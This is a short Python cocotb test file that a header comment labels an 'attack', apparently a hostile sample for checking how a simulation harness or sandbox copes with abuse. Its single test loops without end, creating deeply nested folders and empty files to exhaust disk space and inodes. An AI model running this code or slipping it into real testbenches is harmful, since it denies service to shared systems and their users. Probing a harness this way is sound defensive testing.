# run: cocotb; ends: crash timeout mismatch no_evidence; attack: makes empty files and folders without end
import itertools
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    for number in itertools.count():
        os.makedirs(f"d{number}/" + "x/" * 50, exist_ok=True)
        for name in range(50):
            open(f"d{number}/{name}", "wb").close()
